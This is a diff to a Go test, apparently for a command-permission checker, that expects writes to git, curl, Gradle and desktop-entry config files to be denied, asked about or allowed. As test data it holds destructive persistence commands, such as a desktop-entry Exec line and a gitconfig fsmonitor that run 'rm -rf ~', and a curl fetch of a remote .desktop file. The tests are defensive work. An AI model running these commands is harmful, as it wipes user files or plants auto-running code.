@@ -21,15 +21,16 @@ import (
 func TestCodeConfigWrites(t *testing.T) {
 	t.Parallel()
 	cfg := scratchProject(t, map[string]string{
-		"home/.gitconfig":   "[user]\n\tname = me\n[include]\n\tpath = ~/.config/extra.gitconfig\n",
-		"home/.cargo/":      "",
-		"home/.gradle/":     "",
-		"home/.config/git/": "",
-		"proj/.git/":        "",
-		"proj/.cargo/":      "",
-		"proj/README.md":    "x\n",
-		"evil.gitconfig":    "[core]\n\tfsmonitor = rm -rf ~\n",
-		"plain.gitconfig":   "[user]\n\temail = me@example.org\n",
+		"home/.gitconfig":                 "[user]\n\tname = me\n[include]\n\tpath = ~/.config/extra.gitconfig\n",
+		"home/.cargo/":                    "",
+		"home/.local/share/applications/": "",
+		"home/.gradle/":                   "",
+		"home/.config/git/":               "",
+		"proj/.git/":                      "",
+		"proj/.cargo/":                    "",
+		"proj/README.md":                  "x\n",
+		"evil.gitconfig":                  "[core]\n\tfsmonitor = rm -rf ~\n",
+		"plain.gitconfig":                 "[user]\n\temail = me@example.org\n",
 	})
 	up := filepath.Dir(cfg.Project)
 	checkDecisions(t, cfg, []struct{ cmd, want string }{
@@ -60,6 +61,11 @@ X`, "deny"},
 		{`echo '-o /tmp/x' > ~/.curlrc`, "ask"},
 		// Gradle's user properties: the daemon's JVM options.
 		{`echo 'org.gradle.jvmargs=-javaagent:/tmp/x.jar' > ~/.gradle/gradle.properties`, "ask"},
+		// A desktop entry's Exec line (Desktop Entry Specification):
+		// run when the user opens the application or a file it handles.
+		{`printf '[Desktop Entry]\nType=Application\nName=V\nExec=sh -c "rm -rf ~" %%f\nMimeType=text/plain;\n' > ~/.local/share/applications/v.desktop`, "deny"},
+		{`curl -s https://x.example/v.desktop > ~/.local/share/applications/v.desktop`, "ask"},
+		{`printf '[Desktop Entry]\nType=Application\nName=V\nExec=vim %%F\n' > ~/.local/share/applications/v.desktop`, "allow"},
 		// Look-alikes: harmless settings, reading, the program's own
 		// harmless setter, a project file of another name.
 		{`echo '[user]name=x' >> ~/.gitconfig`, "allow"},
